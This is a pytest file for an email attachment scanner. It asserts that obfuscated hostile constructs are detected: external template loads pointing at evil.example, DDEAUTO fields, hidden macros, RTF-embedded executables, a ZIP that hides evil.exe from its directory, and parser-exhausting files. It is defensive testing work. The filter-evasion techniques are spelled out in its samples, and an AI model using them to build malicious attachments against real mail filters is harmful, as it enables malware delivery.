"""What is written so that a search for its letters misses it, and every program reads it."""

import struct
import time
import zlib
from collections.abc import Callable

import pytest

from maildaemon.domain.attachments import Judged, Reason, Verdict, judge
from maildaemon.mail.inside.search import Search
from maildaemon.mail.types import detect_type
from tests.builders import a_file, a_file_policy
from tests.made_files import EXE, docx, ole, zipped

_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
_ADDRESS = "http://evil.example/a.dotm"


def reason(name: str, content: bytes) -> Judged:
    kind = detect_type(content)
    findings, inside = Search().look((name,), kind, content)
    file = a_file(
        filename=name,
        declared_type="application/octet-stream",
        detected_type=kind,
        size=len(content),
        findings=findings,
        inside=inside,
    )
    return judge((file,), a_file_policy())[0]


def loading(
    kind: str = _TYPE, target: str = _ADDRESS, mode: str = "External", name: str = "Relationship"
) -> bytes:
    one = f'<{name} Id="r" Type="{kind}" Target="{target}" TargetMode="{mode}"/>'
    return docx({"word/_rels/document.xml.rels": f"<Relationships>{one}</Relationships>"})


@pytest.mark.parametrize(
    "content",
    [
        loading(mode="Ext&#101;rnal"),
        loading(target="&#x68;ttp://evil.example/a.dotm"),
        loading(target="ht&#9;tp://evil.example/a.dotm"),
        loading(kind=_TYPE.replace("Temp", "T&#101;mp")),
        loading(target="http://evil.example/a>b.dotm"),
        loading(target="file://3405803781/x/a.dotm"),
        loading(target="\\\\evil@8080\\x\\a.dotm"),
        loading(name="Relationship" + " " * 5000),
        loading(name="a-b:Relationship"),
    ],
)
def test_a_template_from_elsewhere_is_seen_however_it_is_written(content: bytes) -> None:
    assert reason("a.docx", content).reason is Reason.ACTIVE_CONTENT


@pytest.mark.parametrize(
    "field",
    [
        "<w:instrText>D&#68;EAUTO c:</w:instrText>",
        "<x:instrText>DDEAUTO c:</x:instrText>",
        f"<w:instrText {' ' * 300}>DDEAUTO c:</w:instrText>",
        "<w:instrText><![CDATA[DDEAUTO c:]]></w:instrText>",
        "<w:instrText>D<!-- -->DEAUTO c:</w:instrText>",
    ],
)
def test_a_field_that_starts_a_program_is_seen_however_it_is_written(field: str) -> None:
    assert reason("a.docx", docx(body=field)).reason is Reason.ACTIVE_CONTENT


@pytest.mark.parametrize(
    "kind",
    ["application/vnd.ms-office.vbaProject", "x.macroEn&#97;bled.main+xml", "x.macrosheet+xml"],
)
def test_macros_are_seen_by_their_type_whatever_their_part_is_called(kind: str) -> None:
    types = f'<Types><Default Extension="bin" ContentType="{kind}"/></Types>'

    assert reason("a.docx", docx({"[Content_Types].xml": types})).reason is Reason.MACRO


def test_xml_that_no_program_can_read_is_held() -> None:
    broken = docx({"word/_rels/document.xml.rels": "<Relationships><Relationship"})

    assert reason("a.docx", broken) == Judged(Verdict.HELD, Reason.UNREADABLE)


@pytest.mark.parametrize(
    "rtf",
    [
        rb"{\rtf1{\*\template \u104?ttp://evil.example/a}x}",
        rb"{\rtf1\uc0{\*\template \u104 ttp://evil.example/a}x}",
        rb"{\rtf1{\*\template \'68ttp://evil.example/a}x}",
        rb"{\rtf1{\*\template ht{}tp://evil.example/a}x}",
        rb"{\rtf1{\*\template \\\\evil.example\\x\\a}x}",
        rb"{\rtf1{\*\template " + b" " * 60 + rb"http://evil.example/a}x}",
        b"{\\rtf1{\\*\n\\template http://evil.example/a}x}",
        rb"{\rtf1{\field{\*\fldinst DDEAUTO c:\\x}{\fldrslt }}}",
        rb"{\rtf1{\field{\*\fldinst {\b D}{\b DEAUTO c:\\x}}{\fldrslt }}}",
        rb"{\rtf1{\object{\*\objdata 0105{}00000200000006000000}}}",
    ],
)
def test_what_an_rtf_loads_or_runs_is_seen_however_it_is_written(rtf: bytes) -> None:
    assert reason("a.rtf", rtf).reason is Reason.ACTIVE_CONTENT


@pytest.mark.parametrize(
    "rtf",
    [
        rb"{\rtf1{\*\template C:\\Users\\Zo\'eb\\Normal.dotm}x}",
        rb"{\rtf1{\*\template \\\\server\\templates\\Letter.dotx}x}",
        rb"{\rtf1{\field{\*\fldinst HYPERLINK http://shop.example/}{\fldrslt shop}}}",
    ],
)
def test_an_ordinary_rtf_is_accepted(rtf: bytes) -> None:
    assert reason("a.rtf", rtf) == Judged(Verdict.ACCEPTED)


def embedded(name: bytes, content: bytes) -> bytes:
    head = bytes.fromhex("0105000002000000") + struct.pack("<I", len(name) + 1) + name + b"\0"
    data = head + bytes(8) + struct.pack("<I", len(content)) + content
    return b"{\\rtf1{\\object\\objemb{\\*\\objdata " + data.hex().encode() + b"}}}"


def test_what_is_embedded_in_an_rtf_is_looked_into_whatever_it_says_it_is() -> None:
    sheet = ole({"Workbook": b"x" * 5000, "_VBA_PROJECT_CUR": b"x" * 5000})

    assert reason("a.rtf", embedded(b"Excel.Sheet.8", sheet)).reason is Reason.MACRO
    assert reason("a.rtf", embedded(b"Excel.Sheet.8", EXE)).verdict is Verdict.REFUSED


def objects(told: bytes, data: bytes) -> bytes:
    return (
        b"%PDF-1.7\n1 0 obj\n<</Type/ObjStm/N 2/First 8" + told + b">>\nstream\n" + data
        + b"\nendstream\nendobj\ntrailer<</Root 2 0 R>>\n%%EOF\n"
    )  # fmt: skip


@pytest.mark.parametrize(
    "content",
    [
        objects(
            b"/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 8>>", zlib.compress(b"2 0 x")
        ),
        objects(b"/Filter[/FlateDecode/RunLengthDecode]", zlib.compress(b"2 0 x")),
        objects(b"/Filter/FlateDecode", zlib.compress(b" " * 9_000_000)),
    ],
)
def test_objects_of_a_pdf_that_are_packed_in_a_way_not_read_here_are_held(content: bytes) -> None:
    assert reason("a.pdf", content) == Judged(Verdict.HELD, Reason.UNREADABLE)


def test_a_file_that_the_directory_of_a_zip_does_not_tell_of_is_not_overlooked() -> None:
    hidden = zipped({"evil.exe": EXE})
    shown = zipped({"a.txt": b"hello"})
    at, end = hidden.find(b"PK\x01\x02"), shown.find(b"PK\x01\x02")
    directory = bytearray(shown[end:])
    directory[42:46] = struct.pack("<I", at)
    first = directory.find(b"PK\x05\x06")
    directory[first + 16 : first + 20] = struct.pack("<I", at + end)

    content = hidden[:at] + shown[:end] + bytes(directory)

    assert reason("a.zip", content) == Judged(Verdict.HELD, Reason.AMBIGUOUS)


@pytest.mark.parametrize(
    "make",
    [
        lambda: docx({f"word/d{i}.xml": b"<a>" + b"<w:instrText/>" * 590_000 for i in range(20)}),
        lambda: docx({f"word/_rels/{i}.rels": b"<a>" * 2_700_000 for i in range(5)}),
        lambda: docx({f"word/_rels/{i}.rels": b'<a b="' + b"&#65;" * 1_600_000 for i in range(5)}),
        lambda: docx(
            {
                f"word/_rels/{i}.rels": b"<a %b/>"
                % b" ".join(b'a%d=""' % n for n in range(300_000))
                for i in range(6)
            }
        ),
        lambda: b"%PDF-1.7\n" + b"1 0 obj <</Type/ObjStm/Predictor >>stream\nx endstream " * 20_000,
    ],
    ids=["fields", "depth", "an attribute", "attributes", "objects of a pdf"],
)
@pytest.mark.timed
def test_what_is_hard_to_read_takes_no_longer_than_it_may(make: Callable[[], bytes]) -> None:
    content = make()
    begun = time.process_time()
    verdict = reason("a", content).verdict

    assert time.process_time() - begun < 2
    assert verdict is not Verdict.ACCEPTED
